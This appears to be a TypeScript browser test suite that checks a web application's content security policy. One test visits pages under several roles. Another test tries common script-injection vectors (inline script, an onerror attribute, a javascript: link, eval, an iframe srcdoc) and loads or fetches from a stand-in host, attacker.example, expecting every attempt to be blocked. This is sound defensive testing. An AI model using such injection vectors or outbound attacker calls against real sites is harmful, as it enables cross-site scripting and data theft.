import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, expect, inject, test } from 'vitest';
import { openBrowser, Visitor } from './browser.js';
import { EMAILS } from './permissions/people.js';

let browser: Browser;
beforeAll(async () => {
  browser = await openBrowser();
});
afterAll(() => browser.close());

/** What the browser kept a page from doing, by the address of the page; also before the page's own script runs. */
const watch = async (page: Page): Promise<string[]> => {
  const broken: string[] = [];
  await page.exposeFunction('tellViolation', (told: string) => void broken.push(told));
  await page.addInitScript(() => {
    window.addEventListener('securitypolicyviolation', (event) => {
      const tell = (window as unknown as { tellViolation: (told: string) => void }).tellViolation;
      tell(`${document.location.pathname}: ${event.effectiveDirective} ${event.blockedURI} ${event.sample}`);
    });
  });
  return broken;
};

test('no page needs more than the content security policy allows', { timeout: 120_000 }, async () => {
  const visitor = await Visitor.arrive(browser);
  const { page } = visitor;
  const broken = await watch(page);
  const visited: string[] = [];
  const visit = async (path: string): Promise<void> => {
    const answer = await page.goto(path);
    const policy = answer?.headers()['content-security-policy'] ?? '';
    expect(policy, path).toContain("default-src 'none'");
    expect(policy, path).not.toContain('unsafe');
    await page.locator('h1').first().waitFor();
    visited.push(path);
  };
  const ask = async (query: string): Promise<Record<string, never>> => {
    const reply = await visitor.context.request.post('/graphql', {
      headers: { origin: inject('address') },
      data: { query },
    });
    return ((await reply.json()) as { data: Record<string, never> }).data;
  };

  const { goodPractices } = await ask('{ goodPractices(first: 1) { nodes { id } } }');
  const practice = (goodPractices as unknown as { nodes: { id: string }[] }).nodes[0]?.id ?? '';
  for (const path of [
    '/',
    '/practices',
    `/practices/${practice}`,
    `/practices/${practice}/print`,
    '/open-data',
    '/reports',
    '/tools',
    '/auth/callback',
    '/nothing.here',
  ])
    await visit(path);

  await visitor.signIn(EMAILS.lecturer);
  const { pairings } = await ask('{ pairings(first: 1) { nodes { id } } }');
  const pairing = (pairings as unknown as { nodes: { id: string }[] }).nodes[0]?.id ?? '';
  for (const path of [
    '/courses',
    '/projects',
    `/requests/${pairing}`,
    `/plans/${pairing}`,
    '/inbox',
    '/profile',
    '/rounds',
  ])
    await visit(path);

  await visitor.signIn(EMAILS.secretariat);
  const made = await ask(
    'mutation { makeReport(cutOff: "2026-06-30", kind: STOCKTAKING) { ... on MakeReportSuccess { report { summary { id } } } } }',
  );
  const report = (made['makeReport'] as unknown as { report: { summary: { id: string } } }).report.summary.id;
  for (const path of ['/reports', `/reports/${report}.html`, '/ranking', '/insight', '/hand-over'])
    await visit(path);

  expect(broken).toEqual([]);
  expect(visited.length).toBeGreaterThanOrEqual(15);
  // Pages that say what went wrong are answered with their status, which the browser reports as well.
  const others = visitor.faults.filter((fault) => !/status of 40[04]/.test(fault));
  expect(others).toEqual([]);
  await visitor.leave();
});

test('the policy keeps a script out that somebody gets onto a page, in each way there is', async () => {
  const visitor = await Visitor.arrive(browser);
  const { page } = visitor;
  const broken = await watch(page);
  await page.goto('/');
  const ran = await page.evaluate(async () => {
    const window_ = window as unknown as { ran: string[] };
    window_.ran = [];
    const tries: (() => void)[] = [
      () => {
        const script = document.createElement('script');
        script.text = 'window.ran.push("inline")';
        document.body.append(script);
      },
      () => {
        document.body.innerHTML += '<img src="/nothing" onerror="window.ran.push(\'attribute\')">';
      },
      () => {
        const script = document.createElement('script');
        script.src = 'https://attacker.example/script.js';
        document.body.append(script);
      },
      () => {
        const link = document.createElement('a');
        link.href = 'javascript:window.ran.push("link")';
        document.body.append(link);
        link.click();
      },
      // What the browser's tools start may use eval; what it leaves behind for later may not.
      () => void setTimeout(() => new Function('window.ran.push("eval")')()),
      () => {
        const frame = document.createElement('iframe');
        frame.srcdoc = '<script>parent.ran.push("frame")</script>';
        document.body.append(frame);
      },
    ];
    const refused: string[] = [];
    for (const [at, attempt] of tries.entries()) {
      try {
        attempt();
      } catch {
        refused.push(String(at));
      }
    }
    await fetch('https://attacker.example/told').catch(() => refused.push('fetch'));
    return { ran: window_.ran, refused };
  });
  expect(ran.ran).toEqual([]);
  expect(ran.refused).toContain('fetch');
  await expect
    .poll(() => broken.map((told) => told.split(' ')[1]))
    .toEqual(expect.arrayContaining(['connect-src', 'require-trusted-types-for']));
  await visitor.leave();
});
